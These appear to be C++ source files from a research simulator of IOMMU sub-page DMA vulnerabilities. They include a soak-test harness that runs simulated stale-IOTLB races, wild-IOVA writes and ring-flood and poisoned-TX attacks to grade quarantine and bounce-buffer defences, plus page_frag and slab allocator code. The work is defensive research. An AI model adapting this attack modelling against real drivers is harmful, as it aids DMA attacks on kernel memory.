        if (race_iova.ok()) {
          ++report.cross_cpu_race_probes;
          (void)mnic0.port().WriteU64(*race_iova, 0x57494e444f575f30ull);
          (void)machine.dma().UnmapSingle(nic0.device_id(), *race_iova, 2048,
                                          dma::DmaDirection::kFromDevice);
          SetCurrentCpu(CpuId{1});
          if (Result<Kva> side = machine.slab().Kmalloc(1024, "soak_race_side"); side.ok()) {
            if (Result<Iova> side_iova =
                    machine.dma().MapSingle(DeviceId{kPerCpuChurnBase + 1}, *side, 1024,
                                            dma::DmaDirection::kFromDevice, "soak_race_side");
                side_iova.ok()) {
              (void)machine.dma().UnmapSingle(DeviceId{kPerCpuChurnBase + 1}, *side_iova, 1024,
                                              dma::DmaDirection::kFromDevice);
            }
            (void)machine.slab().Kfree(*side);
          }
          const uint64_t stale_before = machine.iommu().stats().stale_iotlb_accesses;
          if (mnic0.port().WriteU64(*race_iova, 0xdeadbeefdeadbeefull).ok()) {
            ++report.cross_cpu_stale_hits;
          } else {
            ++report.cross_cpu_stale_blocked;
          }
          if (machine.iommu().stats().stale_iotlb_accesses > stale_before) {
            ++report.cross_cpu_detected;
          }
          SetCurrentCpu(CpuId{0});
        }
        (void)machine.slab().Kfree(*race_buf);
      }
    }

    // -- Abuse storms on nic1's device ------------------------------------------
    if (storm) {
      for (int w = 0; w < 6; ++w) {
        ++report.abuse_ops;
        // Wild IOVA: far outside any allocator window. Fenced devices get
        // kRevoked (counted as fenced accesses); attached ones log IOMMU
        // faults that feed the health score.
        const Iova wild{(1ull << 40) + (rng.NextBelow(1u << 20) << kPageShift)};
        (void)mnic1.port().WriteU64(wild, 0xdeadbeefdeadbeefull);
      }
    }
    (void)nic1.RetryRefills();
    (void)nic1.CheckTxTimeout();
    (void)nic1.RequeueTimedOut();

    // -- Compound attacks through the serving NIC -------------------------------
    if (config.attacks && config.attack_interval != 0 &&
        epoch % config.attack_interval == config.attack_interval / 2) {
      ++report.attack_runs;
      Result<attack::AttackReport> outcome = [&]() -> Result<attack::AttackReport> {
        if (!ringflood_done) {
          ringflood_done = true;
          attack::RingFloodAttack::Options options;
          // The harness hands the attacker its profiling answer for free
          // (ground truth instead of the multi-boot histogram): the soak
          // grades recovery behaviour, not PFN-guessing fidelity.
          if (std::optional<Kva> kva = nic0.RxSlotKva(0)) {
            if (Result<PhysAddr> phys = machine.layout().DirectMapKvaToPhys(*kva); phys.ok()) {
              options.pfn_guess = phys->pfn().value;
            }
          }
          return attack::RingFloodAttack::Run(env, options);
        }
        return attack::PoisonedTxAttack::Run(env, attack::PoisonedTxAttack::Options{});
      }();
      if (outcome.ok() && outcome->success) {
        ++report.attack_successes;
      }
      drain_nic0_tx();
    }

    // -- Quarantine racing an in-flight completion on a sibling queue: a flow
    // lands on queue 1, the fence comes down across ALL queues, and only then
    // does the poll loop try to complete it. The completion must lose cleanly
    // (empty slot / fenced) — it must never hand the stack a buffer whose
    // mapping the quarantine already revoked.
    if (multi_cpu && nic_queues > 1 && config.recovery_enabled && epoch % 61 == 33) {
      net::PacketHeader race_header{.src_ip = 0x0a000003,
                                    .dst_ip = machine.stack().config().local_ip,
                                    .src_port = 31337,
                                    .dst_port = 7,
                                    .proto = net::kProtoUdp};
      std::vector<uint8_t> race_body(96, 0x33);
      Result<net::RxPostedDescriptor> descriptor = mnic0.InjectRxOn(1, race_header, race_body);
      // Probes only count when the fence actually came down (the device may
      // already be mid-recovery on this epoch); then every one must lose.
      if (descriptor.ok() &&
          machine.recovery().Quarantine(nic0.device_id(), "soak sibling race").ok()) {
        ++report.sibling_quarantine_probes;
        Result<net::SkBuffPtr> skb = nic0.CompleteRx(
            1, descriptor->index,
            static_cast<uint32_t>(net::PacketHeader::kSize + race_body.size()));
        if (!skb.ok()) {
          ++report.sibling_completions_fenced;
        }
      }
    }

    // -- Operator drills on a fixed cadence: the driverless device (no-NIC
    // recovery path) and the serving NIC (availability dip + the stack's
    // shed path, which only fires while the egress device is fenced).
    if (config.recovery_enabled && epoch % 97 == 96) {
      (void)machine.recovery().Quarantine(churn_dev, "soak operator drill");
    }
    if (config.recovery_enabled && epoch % 149 == 148) {
      (void)machine.recovery().Quarantine(nic0.device_id(), "soak operator drill");
    }
    if (config.storage && config.recovery_enabled && epoch % 181 == 180) {
      (void)machine.recovery().Quarantine(nvme0->device_id(), "soak operator drill");
    }

    // -- Supervision + epoch bookkeeping ----------------------------------------
    (void)machine.recovery().Poll();
    if (engine != nullptr) {
      // Demotion triggers latched off the telemetry bus (quarantines, health
      // breaches, detector findings) land here, outside any callback.
      (void)engine->Poll();
      // Re-promotion drill: once nic1 has been demoted, an operator keeps
      // trying to authorize it again. Every attempt inside the hysteresis
      // cooldown must be refused — a flapping device stays on bounce.
      if (epoch % 11 == 7 &&
          engine->state(nic1.device_id()) == policy::TrustState::kUntrusted) {
        ++report.policy.promotion_attempts;
        (void)engine->Promote(nic1.device_id(), "soak re-promotion drill");
      }
    }

    // A device entering quarantine invalidates everything its hardware
    // queues refer to: model the device reset by dropping stale descriptors
    // (otherwise the first post-re-attach injection DMA-writes through a
    // revoked descriptor and instantly re-breaches).
    const recovery::DeviceState state0 = machine.recovery().state(nic0.device_id());
    if (state0 != last_state0 && (state0 == recovery::DeviceState::kQuarantined ||
                                  state0 == recovery::DeviceState::kDetached)) {
      mnic0.rx_posted().clear();
      mnic0.tx_posted().clear();
      if (state0 == recovery::DeviceState::kQuarantined) {
        ++report.nic.quarantines;
      }
    }
    last_state0 = state0;
    const recovery::DeviceState state1 = machine.recovery().state(nic1.device_id());
    if (state1 != last_state1 && (state1 == recovery::DeviceState::kQuarantined ||
                                  state1 == recovery::DeviceState::kDetached)) {
      mnic1.rx_posted().clear();
      mnic1.tx_posted().clear();
      if (state1 == recovery::DeviceState::kQuarantined) {
        ++report.nic.quarantines;
      }
    }
    last_state1 = state1;
    if (config.storage) {
      const recovery::DeviceState state_nvme =
          machine.recovery().state(nvme0->device_id());
      if (state_nvme != last_state_nvme &&
          (state_nvme == recovery::DeviceState::kQuarantined ||
           state_nvme == recovery::DeviceState::kDetached)) {
        mnvme->ClearPendingTransfers();
        if (state_nvme == recovery::DeviceState::kQuarantined) {
          ++report.nvme.quarantines;
        }
      }
      last_state_nvme = state_nvme;
    }

    if (config.invariant_check_interval != 0 &&
        epoch % config.invariant_check_interval == 0) {
      ++report.invariant_checks;
      if (Status invariants = machine.CheckInvariants(); !invariants.ok()) {
        fail("epoch " + std::to_string(epoch) + ": " + std::string(invariants.message()));
        break;
      }
    }

    // Idle time between epochs, so deferred-flush deadlines, TX watchdogs and
    // re-attach backoffs all make progress relative to the workload.
    machine.clock().AdvanceUs(20);
  }
  report.epochs = epoch;

  // ---- Teardown: everything back, nothing leaked ------------------------------
  (void)nic0.Shutdown();
  (void)nic1.Shutdown();
  if (config.storage) {
    (void)nvme0->Shutdown();
  }
  while (!churn_ledger.empty()) {
    ChurnEntry entry = churn_ledger.front();
    churn_ledger.pop_front();
    (void)machine.dma().UnmapSingle(churn_dev, entry.iova, entry.len,
                                    dma::DmaDirection::kFromDevice);
    (void)machine.slab().Kfree(entry.kva);
  }
  if (hostile_parked.has_value()) {
    (void)machine.dma().UnmapSingle(resident_hostile, hostile_parked->iova,
                                    hostile_parked->len,
                                    dma::DmaDirection::kBidirectional);
    (void)machine.slab().Kfree(hostile_parked->kva);
    hostile_parked.reset();
  }
  if (engine != nullptr) {
    // Posture snapshot while the resident devices are still registered: this
    // is the HSI-style exposure answer the run ends on, byte-identical for
    // the same seed. Captured before the pools detach below.
    report.posture_json = engine->PostureJson();
    report.policy.demotions = engine->total_demotions();
    report.policy.promotions_blocked = engine->total_promotions_blocked();
    if (config.hostile_hotplug &&
        engine->state(resident_hostile) == policy::TrustState::kUntrusted) {
      ++report.policy.hostile_still_untrusted;
    }
    // Leak audit for the bounce pool: after driver shutdown and parked-entry
    // retirement nothing may still be in flight.
    if (machine.bounce_pool() != nullptr &&
        machine.bounce_pool()->total_active() != 0 && report.failure.empty()) {
      fail("teardown: " +
           std::to_string(machine.bounce_pool()->total_active()) +
           " bounce mappings still active");
    }
    // Unregister everything so the pools' static IOVA blocks come down
    // before the PTE leak audit walks the page tables.
    if (config.hostile_hotplug) {
      (void)engine->UnregisterDevice(resident_hostile);
      (void)machine.iommu().DetachDevice(resident_hostile);
    }
    (void)engine->UnregisterDevice(nic0.device_id());
    (void)engine->UnregisterDevice(nic1.device_id());
    if (config.storage) {
      (void)engine->UnregisterDevice(nvme0->device_id());
    }
  }
  if (machine.incidents() != nullptr) {
    // Incident capture before the final FlushNow: the flush edges it would
    // record are teardown mechanics, not evidence, and the accounting block
    // embedded in the report must match what the run itself produced.
    report.incidents_opened = machine.incidents()->incident_count();
    report.incidents_suppressed = machine.incidents()->suppressed();
    report.incident_summary_json = machine.incidents()->SummaryJson();
    report.incidents_json = machine.incidents()->ReportsJson();
  }
  if (machine.flight_recorder() != nullptr) {
    report.flight_records = machine.flight_recorder()->total_recorded();
    report.flight_dropped = machine.flight_recorder()->total_dropped();
  }
  machine.iommu().FlushNow();

  report.sim_cycles = machine.clock().now();
  report.leaked_mappings = machine.dma().live_mappings();
  for (DeviceId device : machine.iommu().attached_devices()) {
    if (const iommu::IoPageTable* table = machine.iommu().page_table(device)) {
      report.leaked_iova_entries += table->AllMappings().size();
    }
  }

  telemetry::Hub& hub = machine.telemetry();
  if (engine != nullptr) {
    report.policy.bounce_maps = hub.counter_value("bounce.maps");
    report.policy.bounce_unmaps = hub.counter_value("bounce.unmaps");
  }
  report.quarantines = machine.recovery().total_quarantines();
  report.reattach_attempts = hub.counter_value("recovery.reattach_attempts");
  report.permanent_detaches = machine.recovery().total_detaches();
  report.fenced_accesses = machine.iommu().stats().fenced_accesses;
  report.shed_packets = machine.stack().stats().tx_shed;
  report.faults_injected = machine.fault().total_injections();
  report.availability = report.echo_probes == 0
                            ? 1.0
                            : static_cast<double>(report.echo_ok) /
                                  static_cast<double>(report.echo_probes);
  report.availability_degraded =
      report.degraded_probes == 0
          ? 1.0
          : static_cast<double>(report.degraded_ok) /
                static_cast<double>(report.degraded_probes);
  const telemetry::Histogram::Summary latency =
      hub.histogram("recovery.quarantine_latency_cycles").Summarize();
  report.quarantine_latency_p50 = latency.p50;
  report.quarantine_latency_p99 = latency.p99;
  const telemetry::Histogram::Summary downtime =
      hub.histogram("recovery.downtime_cycles").Summarize();
  report.downtime_p50 = downtime.p50;
  report.downtime_p99 = downtime.p99;

  // Per-class rollup. The NIC side mirrors the top-level echo numbers; the
  // NVMe side pulls the driver's own accounting.
  report.nic.probes = report.echo_probes;
  report.nic.ok = report.echo_ok;
  report.nic.availability = report.nic.probes == 0
                                ? 1.0
                                : static_cast<double>(report.nic.ok) /
                                      static_cast<double>(report.nic.probes);
  report.nic.shed_packets = report.shed_packets;
  if (config.storage) {
    report.nvme.availability = report.nvme.probes == 0
                                   ? 1.0
                                   : static_cast<double>(report.nvme.ok) /
                                         static_cast<double>(report.nvme.probes);
    report.nvme.reads_completed = nvme0->reads_completed();
    report.nvme.writes_completed = nvme0->writes_completed();
    report.nvme.io_errors = nvme0->io_errors();
    report.nvme.completion_errors = nvme0->completion_errors();
    report.nvme.queue_resets = nvme0->queue_resets();
  } else {
    report.nvme.availability = 1.0;
  }

  if (multi_cpu) {
    for (uint32_t c = 0; c < num_cpus; ++c) {
      SoakReport::CpuBreakdown row;
      row.cpu = c;
      row.churn_ops = cpu_churn_ops[c];
      row.churn_failures = cpu_churn_failures[c];
      for (uint32_t q = 0; q < nic0.num_queues(); ++q) {
        if (nic0.queue_cpu(q).value == c) {
          row.rx_packets += nic0.rx_packets(q);
        }
      }
      report.cpus.push_back(row);
    }
  }

  ++report.invariant_checks;
  if (report.failure.empty()) {
    if (Status invariants = machine.CheckInvariants(); !invariants.ok()) {
      fail("teardown: " + std::string(invariants.message()));
    } else if (report.leaked_mappings != 0) {
      fail("teardown: " + std::to_string(report.leaked_mappings) + " mappings still live");
    } else if (report.leaked_iova_entries != 0) {
      fail("teardown: " + std::to_string(report.leaked_iova_entries) + " PTEs still installed");
    } else if (report.policy.secret_leaks != 0 ||
               report.policy.neighbour_corruptions != 0) {
      // The bounce pool's whole reason to exist: a hostile device's sub-page
      // probe reaching real kernel memory is a hard run failure.
      fail("policy: " + std::to_string(report.policy.secret_leaks) + " leaks, " +
           std::to_string(report.policy.neighbour_corruptions) +
           " neighbour corruptions from untrusted devices");
    } else if (config.degraded_floor > 0.0 && report.degraded_probes != 0 &&
               report.availability_degraded < config.degraded_floor) {
      // The degraded drill's whole point: demoted devices must keep serving.
      // Dropping below the floor means sync rings starved, not degraded.
      char verdict[128];
      std::snprintf(verdict, sizeof(verdict),
                    "degraded availability %.6f below floor %.6f (%llu/%llu probes)",
                    report.availability_degraded, config.degraded_floor,
                    static_cast<unsigned long long>(report.degraded_ok),
                    static_cast<unsigned long long>(report.degraded_probes));
      fail(verdict);
    } else {
      report.ok = true;
    }
  }

  g_last_trace_csv.clear();
  if (g_capture_trace) {
    g_last_trace_csv = hub.ExportTraceCsv();
  }
  return report;
}

std::string SoakReport::ToJson() const {
  JsonWriter w;
  w.Field("ok", ok);
  w.Field("failure", failure);
  w.Field("seed", seed);
  w.Field("epochs", epochs);
  w.Field("sim_cycles", sim_cycles);
  w.Field("echo_probes", echo_probes);
  w.Field("echo_ok", echo_ok);
  w.Field("availability", availability);
  w.Field("degraded_probes", degraded_probes);
  w.Field("degraded_ok", degraded_ok);
  w.Field("availability_degraded", availability_degraded);
  w.Field("churn_map_ops", churn_map_ops);
  w.Field("churn_map_failures", churn_map_failures);
  w.Field("abuse_ops", abuse_ops);
  w.Field("attack_runs", attack_runs);
  w.Field("attack_successes", attack_successes);
  w.Field("faults_injected", faults_injected);
  w.Field("quarantines", quarantines);
  w.Field("reattach_attempts", reattach_attempts);
  w.Field("permanent_detaches", permanent_detaches);
  w.Field("fenced_accesses", fenced_accesses);
  w.Field("shed_packets", shed_packets);
  w.Field("invariant_checks", invariant_checks);
  w.Field("quarantine_latency_p50", quarantine_latency_p50);
  w.Field("quarantine_latency_p99", quarantine_latency_p99);
  w.Field("downtime_p50", downtime_p50);
  w.Field("downtime_p99", downtime_p99);
  w.Field("leaked_mappings", leaked_mappings);
  w.Field("leaked_iova_entries", leaked_iova_entries);
  w.Field("cross_cpu_race_probes", cross_cpu_race_probes);
  w.Field("cross_cpu_stale_hits", cross_cpu_stale_hits);
  w.Field("cross_cpu_stale_blocked", cross_cpu_stale_blocked);
  w.Field("cross_cpu_detected", cross_cpu_detected);
  w.Field("sibling_quarantine_probes", sibling_quarantine_probes);
  w.Field("sibling_completions_fenced", sibling_completions_fenced);
  {
    JsonWriter n;
    n.Field("probes", nic.probes);
    n.Field("ok", nic.ok);
    n.Field("availability", nic.availability);
    n.Field("quarantines", nic.quarantines);
    n.Field("shed_packets", nic.shed_packets);
    w.Raw("nic", n.Finish());
  }
  {
    JsonWriter n;
    n.Field("probes", nvme.probes);
    n.Field("ok", nvme.ok);
    n.Field("availability", nvme.availability);
    n.Field("quarantines", nvme.quarantines);
    n.Field("shed_ios", nvme.shed_ios);
    n.Field("reads_completed", nvme.reads_completed);
    n.Field("writes_completed", nvme.writes_completed);
    n.Field("io_errors", nvme.io_errors);
    n.Field("completion_errors", nvme.completion_errors);
    n.Field("queue_resets", nvme.queue_resets);
    n.Field("forged_completions", nvme.forged_completions);
    n.Field("replays_landed", nvme.replays_landed);
    n.Field("replays_blocked", nvme.replays_blocked);
    n.Field("verify_mismatches", nvme.verify_mismatches);
    w.Raw("nvme", n.Finish());
  }
  {
    JsonWriter p;
    p.Field("hotplug_attaches", policy.hotplug_attaches);
    p.Field("hotplug_detaches", policy.hotplug_detaches);
    p.Field("subpage_read_probes", policy.subpage_read_probes);
    p.Field("subpage_write_probes", policy.subpage_write_probes);
    p.Field("secret_leaks", policy.secret_leaks);
    p.Field("neighbour_corruptions", policy.neighbour_corruptions);
    p.Field("bounce_rx_ok", policy.bounce_rx_ok);
    p.Field("bounce_maps", policy.bounce_maps);
    p.Field("bounce_unmaps", policy.bounce_unmaps);
    p.Field("demotions", policy.demotions);
    p.Field("promotion_attempts", policy.promotion_attempts);
    p.Field("promotions_blocked", policy.promotions_blocked);
    p.Field("hostile_still_untrusted", policy.hostile_still_untrusted);
    w.Raw("policy", p.Finish());
  }
  // The engine's own HSI-style posture document, verbatim (null when the
  // policy leg is off).
  w.Raw("posture", posture_json.empty() ? "null" : posture_json);
  {
    JsonWriter f;
    f.Field("incidents_opened", incidents_opened);
    f.Field("incidents_suppressed", incidents_suppressed);
    f.Field("flight_records", flight_records);
    f.Field("flight_dropped", flight_dropped);
    f.Raw("summary",
          incident_summary_json.empty() ? "null" : incident_summary_json);
    w.Raw("forensics", f.Finish());
  }
  {
    std::string arr = "[";
    for (size_t i = 0; i < cpus.size(); ++i) {
      if (i != 0) {
        arr += ",";
      }
      JsonWriter c;
      c.Field("cpu", cpus[i].cpu);
      c.Field("churn_ops", cpus[i].churn_ops);
      c.Field("churn_failures", cpus[i].churn_failures);
      c.Field("rx_packets", cpus[i].rx_packets);
      arr += c.Finish();
    }
    arr += "]";
    w.Raw("cpus", arr);
  }
  return w.Finish();
}

}  // namespace spv::soak
