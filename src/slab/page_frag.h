// page_frag allocator (paper §5.2.2, Figure 5).
//
// Linux network drivers allocate RX data buffers from a per-CPU page_frag
// pool: a contiguous region (usually 32 KiB) with a `va` pointer at its start
// and an `offset` initialized to the region end. An allocation of B bytes
// subtracts B from `offset` and returns va+offset — so consecutive
// allocations are adjacent and *often share a 4 KiB page*. When each buffer
// is DMA-mapped separately, the shared page ends up mapped by multiple IOVAs:
// the paper's type (c) sub-page vulnerability, used 344 times by network
// drivers in Linux 5.0.

#ifndef SPV_SLAB_PAGE_FRAG_H_
#define SPV_SLAB_PAGE_FRAG_H_

#include <cstdint>
#include <memory>
#include <string>
#include <string_view>
#include <unordered_map>
#include <vector>

#include "base/status.h"
#include "base/types.h"
#include "mem/kernel_layout.h"
#include "mem/page_allocator.h"
#include "mem/page_db.h"
#include "slab/observer.h"
#include "telemetry/telemetry.h"

namespace spv::fault {
class FaultEngine;
}  // namespace spv::fault

namespace spv::slab {

struct FragInfo {
  Kva kva;
  uint64_t size;
  std::string site;
};

class PageFragPool {
 public:
  static constexpr uint64_t kDefaultRegionBytes = 32 * 1024;

  // `hub` optional as in SlabAllocator: null means a lazily-owned private bus.
  PageFragPool(mem::PageDb& page_db, mem::PageAllocator& page_alloc,
               const mem::KernelLayout& layout, CpuId cpu,
               uint64_t region_bytes = kDefaultRegionBytes,
               telemetry::Hub* hub = nullptr);

  PageFragPool(const PageFragPool&) = delete;
  PageFragPool& operator=(const PageFragPool&) = delete;

  // Carves `size` bytes off the current region, aligned down to `align`.
  // A fresh region is allocated when the current one is exhausted. Sizes
  // larger than the standard region get a dedicated region (HW-LRO style
  // 64 KiB buffers take this path).
  Result<Kva> Alloc(uint64_t size, uint64_t align = 1, std::string_view site = "page_frag");

  // Drops the reference a frag holds on its region; the region's pages are
  // returned to the buddy allocator when retired and unreferenced.
  Status Free(Kva kva);

  CpuId cpu() const { return cpu_; }

  // Live frags whose extents intersect `pfn`, in address order. Ground truth
  // for type (c) analysis: more than one entry here means co-located buffers.
  std::vector<FragInfo> LiveFragsOnPage(Pfn pfn) const;

  // Number of regions ever allocated (Fig 5 statistics).
  uint64_t regions_allocated() const { return regions_allocated_; }
  uint64_t live_frags() const { return frags_.size(); }

  // Observers are bridged onto the telemetry bus (origin = this pool).
  void AddObserver(SlabObserver* observer);
  void RemoveObserver(SlabObserver* observer);

  // The bus every frag event is published to.
  telemetry::Hub& telemetry();

  // Optional fault hook (kPageFragAlloc): nullptr detaches.
  void set_fault_engine(fault::FaultEngine* engine) { fault_ = engine; }

 private:
  struct Region {
    Pfn head;
    unsigned order = 0;
    uint64_t bytes = 0;
    uint64_t offset = 0;  // next allocation ends here (descending)
    uint32_t refs = 0;
    bool current = false;
  };

  struct Frag {
    uint64_t region_head;  // pfn of owning region
    uint64_t size;
    std::string site;
  };

  Result<Region*> RefillRegion(uint64_t bytes);
  void MaybeReleaseRegion(uint64_t head_pfn);
  void Notify(bool alloc, Kva kva, uint64_t size, std::string_view site);

  mem::PageDb& page_db_;
  mem::PageAllocator& page_alloc_;
  const mem::KernelLayout& layout_;
  CpuId cpu_;
  uint64_t region_bytes_;

  uint64_t current_region_ = UINT64_MAX;                // head pfn of active region
  std::unordered_map<uint64_t, Region> regions_;        // head pfn -> region
  std::unordered_map<uint64_t, Frag> frags_;            // frag kva -> record
  telemetry::Hub* hub_;
  std::unique_ptr<telemetry::Hub> owned_hub_;  // fallback when none injected
  std::vector<std::unique_ptr<SlabObserverSink>> observer_sinks_;
  uint64_t regions_allocated_ = 0;
  fault::FaultEngine* fault_ = nullptr;
};

}  // namespace spv::slab

#endif  // SPV_SLAB_PAGE_FRAG_H_
