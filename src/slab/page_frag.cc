#include "slab/page_frag.h"

#include <algorithm>
#include <cassert>

#include "base/align.h"
#include "fault/fault.h"

namespace spv::slab {

PageFragPool::PageFragPool(mem::PageDb& page_db, mem::PageAllocator& page_alloc,
                           const mem::KernelLayout& layout, CpuId cpu, uint64_t region_bytes,
                           telemetry::Hub* hub)
    : page_db_(page_db),
      page_alloc_(page_alloc),
      layout_(layout),
      cpu_(cpu),
      region_bytes_(AlignUp(region_bytes, kPageSize)),
      hub_(hub) {
  assert(region_bytes_ >= kPageSize);
}

telemetry::Hub& PageFragPool::telemetry() {
  if (hub_ == nullptr) {
    owned_hub_ = std::make_unique<telemetry::Hub>();
    hub_ = owned_hub_.get();
  }
  return *hub_;
}

void PageFragPool::AddObserver(SlabObserver* observer) {
  observer_sinks_.push_back(std::make_unique<SlabObserverSink>(this, observer));
  telemetry().AddSink(observer_sinks_.back().get());
}

void PageFragPool::RemoveObserver(SlabObserver* observer) {
  for (auto it = observer_sinks_.begin(); it != observer_sinks_.end();) {
    if ((*it)->observer() == observer) {
      telemetry().RemoveSink(it->get());
      it = observer_sinks_.erase(it);
    } else {
      ++it;
    }
  }
}

Result<PageFragPool::Region*> PageFragPool::RefillRegion(uint64_t bytes) {
  const uint64_t region_bytes = AlignUp(bytes, kPageSize);
  const unsigned order = Log2Ceil(region_bytes >> kPageShift);
  Result<Pfn> head = page_alloc_.AllocPages(order, mem::PageOwner::kPageFrag);
  if (!head.ok()) {
    return head.status();
  }
  Region region;
  region.head = *head;
  region.order = order;
  region.bytes = uint64_t{1} << (order + kPageShift);
  region.offset = region.bytes;  // offset starts at the region end (Fig 5)
  region.current = true;
  ++regions_allocated_;
  if (hub_ != nullptr && hub_->enabled()) {
    hub_->counter("frag.regions").Add();
  }
  auto [it, inserted] = regions_.emplace(head->value, region);
  assert(inserted);
  return &it->second;
}

Result<Kva> PageFragPool::Alloc(uint64_t size, uint64_t align, std::string_view site) {
  if (size == 0 || !IsPowerOfTwo(align)) {
    return InvalidArgument("page_frag alloc: bad size or alignment");
  }
  if (fault_ != nullptr && fault_->armed() &&
      fault_->ShouldInject(fault::FaultSite::kPageFragAlloc)) {
    return ResourceExhausted("injected: page_frag pool exhausted");
  }

  if (size > region_bytes_) {
    // Oversized request: dedicated region (e.g. 64 KiB HW-LRO buffers, §5.3).
    Result<Region*> region = RefillRegion(size);
    if (!region.ok()) {
      return region.status();
    }
    Region* r = *region;
    r->current = false;  // dedicated; next normal alloc refills
    r->offset = AlignDown(r->bytes - size, align);
    r->refs = 1;
    const Kva kva = layout_.PhysToDirectMapKva(PhysAddr::FromPfn(r->head, 0)) + r->offset;
    frags_[kva.value] = Frag{r->head.value, size, std::string(site)};
    Notify(true, kva, size, site);
    return kva;
  }

  Region* region = nullptr;
  if (current_region_ != UINT64_MAX) {
    auto it = regions_.find(current_region_);
    if (it != regions_.end() && it->second.offset >= size) {
      region = &it->second;
    }
  }
  if (region == nullptr) {
    // Retire the current region; it lives on until its refs drop.
    if (current_region_ != UINT64_MAX) {
      auto it = regions_.find(current_region_);
      if (it != regions_.end()) {
        it->second.current = false;
        MaybeReleaseRegion(current_region_);
      }
      current_region_ = UINT64_MAX;
    }
    Result<Region*> fresh = RefillRegion(region_bytes_);
    if (!fresh.ok()) {
      return fresh.status();
    }
    region = *fresh;
    current_region_ = region->head.value;
  }

  region->offset = AlignDown(region->offset - size, align);
  ++region->refs;
  const Kva kva = layout_.PhysToDirectMapKva(PhysAddr::FromPfn(region->head, 0)) + region->offset;
  frags_[kva.value] = Frag{region->head.value, size, std::string(site)};
  Notify(true, kva, size, site);
  return kva;
}

Status PageFragPool::Free(Kva kva) {
  auto it = frags_.find(kva.value);
  if (it == frags_.end()) {
    return FailedPrecondition("page_frag free of unknown frag");
  }
  const uint64_t head = it->second.region_head;
  const uint64_t size = it->second.size;
  frags_.erase(it);

  auto rit = regions_.find(head);
  if (rit == regions_.end()) {
    return Internal("page_frag free: frag points at an unknown region");
  }
  if (rit->second.refs == 0) {
    return Internal("page_frag free: region refcount underflow");
  }
  --rit->second.refs;
  Notify(false, kva, size, "");
  MaybeReleaseRegion(head);
  return OkStatus();
}

void PageFragPool::MaybeReleaseRegion(uint64_t head_pfn) {
  auto it = regions_.find(head_pfn);
  if (it == regions_.end() || it->second.current || it->second.refs > 0) {
    return;
  }
  Status s = page_alloc_.FreePages(it->second.head);
  if (!s.ok()) {
    // Keep the region recorded rather than leaking its bookkeeping; a later
    // release attempt (or CheckInvariants) will see the inconsistency.
    return;
  }
  regions_.erase(it);
}

std::vector<FragInfo> PageFragPool::LiveFragsOnPage(Pfn pfn) const {
  std::vector<FragInfo> out;
  for (const auto& [kva_value, frag] : frags_) {
    const Kva kva{kva_value};
    auto phys = layout_.DirectMapKvaToPhys(kva);
    if (!phys.ok()) {
      continue;
    }
    const uint64_t first = phys->pfn().value;
    const uint64_t last = (phys->value + frag.size - 1) >> kPageShift;
    if (pfn.value >= first && pfn.value <= last) {
      out.push_back(FragInfo{kva, frag.size, frag.site});
    }
  }
  std::sort(out.begin(), out.end(), [](const FragInfo& a, const FragInfo& b) {
    return a.kva < b.kva;
  });
  return out;
}

void PageFragPool::Notify(bool alloc, Kva kva, uint64_t size, std::string_view site) {
  telemetry::Hub& hub = telemetry();
  if (!hub.active()) {
    return;
  }
  telemetry::Event event;
  event.kind = alloc ? telemetry::EventKind::kFragAlloc : telemetry::EventKind::kFragFree;
  event.severity = telemetry::Severity::kTrace;
  event.device = cpu_.value;  // frag pools are per-CPU; reuse the id column
  event.addr = kva.value;
  event.len = size;
  event.origin = this;
  event.site = std::string(site);
  hub.Publish(std::move(event));
  if (hub.enabled()) {
    hub.counter(alloc ? "frag.allocs" : "frag.frees").Add();
    if (alloc) {
      hub.histogram("frag.alloc_bytes").Record(size);
    }
  }
}

}  // namespace spv::slab
