#include "slab/slab_allocator.h"

#include <algorithm>
#include <mutex>

#include "base/align.h"
#include "fault/fault.h"

namespace spv::slab {

namespace {
constexpr uint16_t kLargeCacheId = 0xffff;
}  // namespace

SlabAllocator::SlabAllocator(mem::PhysicalMemory& pm, mem::PageDb& page_db,
                             mem::PageAllocator& page_alloc, const mem::KernelLayout& layout,
                             telemetry::Hub* hub)
    : pm_(pm), page_db_(page_db), page_alloc_(page_alloc), layout_(layout), hub_(hub) {
  for (size_t i = 0; i < kKmallocSizeClasses.size(); ++i) {
    caches_[i].id = static_cast<uint16_t>(i);
    caches_[i].object_size = kKmallocSizeClasses[i];
    caches_[i].objects_per_page = static_cast<uint32_t>(kPageSize / kKmallocSizeClasses[i]);
  }
}

std::optional<uint16_t> SlabAllocator::SizeClassIndex(uint64_t size) {
  if (size == 0) {
    size = 1;
  }
  for (size_t i = 0; i < kKmallocSizeClasses.size(); ++i) {
    if (size <= kKmallocSizeClasses[i]) {
      return static_cast<uint16_t>(i);
    }
  }
  return std::nullopt;
}

Result<Kva> SlabAllocator::Kmalloc(uint64_t size, std::string_view site) {
  if (fault_ != nullptr && fault_->armed() &&
      fault_->ShouldInject(fault::FaultSite::kSlabAlloc)) {
    return ResourceExhausted("injected: kmalloc cache exhausted");
  }
  std::optional<uint16_t> cls = SizeClassIndex(size);
  if (!cls.has_value()) {
    return KmallocLarge(size, site);
  }
  std::lock_guard<MaybeMutex> guard(mu_);
  Cache& cache = caches_[*cls];

  // Find a partial slab page (MRU first, like SLUB's per-cpu active slab).
  while (!cache.partial.empty()) {
    auto it = slab_pages_.find(cache.partial.front().value);
    if (it == slab_pages_.end() || it->second.free_stack.empty()) {
      cache.partial.pop_front();
      continue;
    }
    break;
  }
  if (cache.partial.empty()) {
    Result<Pfn> page = NewSlabPage(cache);
    if (!page.ok()) {
      return page.status();
    }
    cache.partial.push_front(*page);
  }

  SlabPage& page = slab_pages_.at(cache.partial.front().value);
  const uint16_t slot = page.free_stack.back();
  const Kva kva = SlotKva(page, slot);
  // kzalloc semantics. Zero before carving the slot so a physical-memory
  // failure surfaces as a clean Status with no bookkeeping to roll back.
  auto phys = layout_.DirectMapKvaToPhys(kva);
  if (!phys.ok()) {
    return phys.status();
  }
  Status zero = pm_.Fill(*phys, cache.object_size, 0);
  if (!zero.ok()) {
    return zero;
  }

  page.free_stack.pop_back();
  page.occupied[slot] = true;
  page.sites[slot] = std::string(site);
  ++page.used;
  if (page.free_stack.empty()) {
    cache.partial.pop_front();  // page is now full
  }

  ++live_objects_;
  if (hub_ != nullptr && hub_->enabled()) {
    // Objects co-resident on this 4 KiB page after the allocation — the raw
    // material of the paper's type (b)/(d) sub-page exposure.
    hub_->histogram("slab.co_residency").Record(page.used);
  }
  Notify(/*alloc=*/true, kva, cache.object_size, site);
  return kva;
}

Result<Kva> SlabAllocator::KmallocLarge(uint64_t size, std::string_view site) {
